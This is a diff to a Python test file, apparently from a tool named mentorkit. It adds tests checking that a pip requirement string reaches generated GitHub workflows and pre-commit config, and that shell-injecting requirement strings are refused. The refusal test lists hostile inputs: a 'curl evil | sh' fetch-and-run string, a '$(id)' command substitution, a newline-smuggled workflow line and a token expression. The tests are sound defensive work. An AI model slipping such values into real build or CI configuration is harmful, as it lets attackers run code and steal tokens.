@@ -116,3 +116,20 @@ def test_init_ships_the_same_theme_override_as_this_repository() -> None:
     root = Path(__file__).resolve().parents[2]
     template = root / "mentorkit" / "templates" / "program" / "site" / "overrides" / "main.html"
     assert template.read_text() == (root / "site" / "overrides" / "main.html").read_text()
+
+
+def test_the_mentorkit_requirement_reaches_workflows_and_pre_commit() -> None:
+    requirement = "mentorkit @ git+https://git.example.org/tools/mentorkit.git@0123abc"
+    files = plan_init(InitOptions(today=TODAY, mentorkit_requirement=requirement))
+    for path in (".github/workflows/mentorkit-pr.yml", ".github/workflows/mentorkit-pages.yml"):
+        assert f'python -m pip install "{requirement}"' in files[path]
+    assert requirement in files[".pre-commit-config.yaml"]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['x"; curl evil | sh; "', "mentorkit $(id)", "mentorkit\nrun: x", "${{ github.token }}"],
+)
+def test_a_requirement_that_could_inject_shell_is_refused(hostile: str) -> None:
+    with pytest.raises(ValueError, match="is not a pip requirement"):
+        plan_init(InitOptions(today=TODAY, mentorkit_requirement=hostile))
